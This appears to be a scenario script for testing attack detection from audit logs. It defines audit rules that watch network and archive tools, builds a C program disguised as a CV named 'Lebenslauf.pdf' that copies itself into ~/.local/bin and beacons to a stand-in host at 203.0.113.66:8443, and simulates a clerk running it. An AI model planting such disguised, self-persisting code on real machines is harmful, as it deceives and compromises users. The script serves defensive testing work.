title="Long day of three: application papers, one of them a program, opened next morning (Neo23x0-like rules)"
what="clerk saves Bewerbung_Kowalski.tar.gz with Thunderbird among other letters, unpacks it in the afternoon, gives all of it mode 755 next morning and starts 'Lebenslauf.pdf', a program, which connects to 203.0.113.66 port 8443 and is left in ~/.local/bin by itself. dev commits and builds, buyer adds up tables. Rules like the most used set: no writes in home, no users' commands but some watched programs, connections that succeed, modes, deletions; no CWD records."
host=ws3.example.org user=clerk daemons="cron sshd dovecot"
shift_plan="morning:4h noon:3h next:17h end:2h"
setup() {
  dovecot_config
  cat > /etc/audit/audit.rules <<'R'
-D
-b 8192
--backlog_wait_time 60000
-f 1
-a always,exclude -F msgtype=CWD
-w /etc/passwd -p wa -k etcpasswd
-w /etc/crontab -p wa -k cron
-w /var/spool/cron -p wa -k cron
-w /etc/ssh/sshd_config -k sshd
-w /usr/bin/wget -p x -k susp_activity
-w /usr/bin/curl -p x -k susp_activity
-w /usr/bin/base64 -p x -k susp_activity
-w /usr/bin/ssh -p x -k susp_activity
-w /usr/bin/whoami -p x -k recon
-w /usr/bin/id -p x -k recon
-w /usr/bin/tar -p x -k Data_Compressed
-w /usr/bin/zip -p x -k Data_Compressed
-w /usr/bin/gzip -p x -k Data_Compressed
-w /usr/bin/make -p x -k software_mgmt
-a always,exit -F arch=b64 -S connect -F a2=16 -F success=1 -F key=network_connect_4
-a always,exit -F arch=b64 -S connect -F a2=28 -F success=1 -F key=network_connect_6
-a always,exit -F arch=b64 -S chmod -F auid>=1000 -F auid!=-1 -k perm_mod
-a always,exit -F arch=b64 -S fchmod -F auid>=1000 -F auid!=-1 -k perm_mod
-a always,exit -F arch=b64 -S fchmodat -F auid>=1000 -F auid!=-1 -k perm_mod
-a always,exit -F arch=b64 -S rmdir -S unlink -S unlinkat -S rename -S renameat -F auid>=1000 -F auid!=-1 -k delete
-a always,exit -F arch=b64 -S creat -S open -S openat -F exit=-EACCES -F auid>=1000 -F auid!=-1 -k file_access
-a always,exit -F arch=b64 -F euid=0 -S execve -k rootcmd
R
  mkdir -p "$base/out/b/Bewerbung_Kowalski"
  cat > "$base/out/p.c" <<'C'
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <stdio.h>
int main(int c, char **v) {
  char p[256]; snprintf(p, 256, "%s/.local", getenv("HOME")); mkdir(p, 0755); strcat(p, "/bin"); mkdir(p, 0755); strcat(p, "/pdfd");
  int in = open("/proc/self/exe", O_RDONLY), out = open(p, O_WRONLY | O_CREAT, 0600); char b[4096]; ssize_t n;
  while ((n = read(in, b, 4096)) > 0) if (write(out, b, n) < 0) return 1;
  close(out); chmod(p, 0755);
  struct sockaddr_in to = {.sin_family = AF_INET}; to.sin_port = htons(8443); inet_pton(AF_INET, "203.0.113.66", &to.sin_addr);
  int fd = socket(AF_INET, SOCK_STREAM, 0); if (connect(fd, (void *)&to, sizeof to)) return 1;
  if (write(fd, "hello\n", 6) < 0) return 1; close(fd); return 0; }
C
  cc -O1 -o "$base/out/b/Bewerbung_Kowalski/Lebenslauf.pdf" "$base/out/p.c" || return 1
  make_pdf "$base/out/b/Bewerbung_Kowalski/Zeugnisse.pdf" Zeugnisse
  chmod 644 "$base/out/b/Bewerbung_Kowalski/"*
  tar czf "$base/out/Bewerbung_Kowalski.tar.gz" -C "$base/out/b" Bewerbung_Kowalski
  make_pdf "$base/out/offer.pdf" Offer
  mkdir -p /home/dev/src/tool /home/buyer/tables
  printf 'all:\n\tcc -o tool tool.c\n' > /home/dev/src/tool/Makefile; printf 'int main(){return 0;}\n' > /home/dev/src/tool/tool.c
  (cd /home/dev/src/tool && git init -q . && git -c user.name=d -c user.email=dev@example.org add -A && git -c user.name=d -c user.email=dev@example.org commit -qm one)
  chown -R dev: /home/dev/src
  printf 'a;1\nb;2\n' > /home/buyer/tables/q3.csv; chown -R buyer: /home/buyer/tables
}
act() {
  display_up
  phase morning
  small_talk 4
  ssh_as dev <<'L'
cd src/tool
echo '/* v2 */' >> tool.c
make
git -c user.name=dev -c user.email=dev@example.org commit -qam two
chmod 755 tool
L
  small_talk 2
  mail_in --from m.kowalski@example.com --to clerk@example.org --subject "Bewerbung als Sachbearbeiterin" --source 192.0.2.31 --helo host31.example.com --attach "$base/out/Bewerbung_Kowalski.tar.gz:application/gzip" --text 'Sehr geehrte Damen und Herren,\n\nanbei meine Unterlagen.\n'
  wait_log 'from=<m.kowalski@example.com>'; sleep 1
  small_talk 2
  phase noon
  mail_in --from sales@example.net --to clerk@example.org --subject "Offer 4471" --source 203.0.113.45 --helo host45.example.net --attach "$base/out/offer.pdf:application/pdf"
  small_talk 2
  thunderbird_save clerk Bewerbung_Kowalski.tar.gz Bewerbungen
  ssh_as buyer <<'L'
cd tables
awk -F';' '{s+=$2} END {print s}' q3.csv
chmod 600 q3.csv
mv q3.csv q3-done.csv
L
  console_as clerk <<'L'
cd Bewerbungen
tar xzf Bewerbung_Kowalski.tar.gz
ls -l Bewerbung_Kowalski
L
  phase next
  small_talk 5
  ssh_run dev 'cd src/tool && make && ./tool'
  small_talk 1
  console_as clerk <<'L'
cd Bewerbungen/Bewerbung_Kowalski
chmod -R 755 .
./Lebenslauf.pdf
%sleep 2
L
  phase end
  small_talk 3
  ssh_run buyer 'ls tables'
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'delivered'
  file_step save 'thunderbird.*Bewerbung_Kowalski.*gz' 'saved'
  exec_step unpack 'tar xzf Bewerbung_Kowalski.tar.gz' 'unpacked'
  file_step chmod 'chmod chmod .*Lebenslauf.pdf' 'made executable the next day'
  file_step copy 'Lebenslauf.pdf chmod .*pdfd' 'leaves a copy of itself'
  net_step beacon 'Lebenslauf.pdf 203.0.113.66:8443' 'and calls out'
}
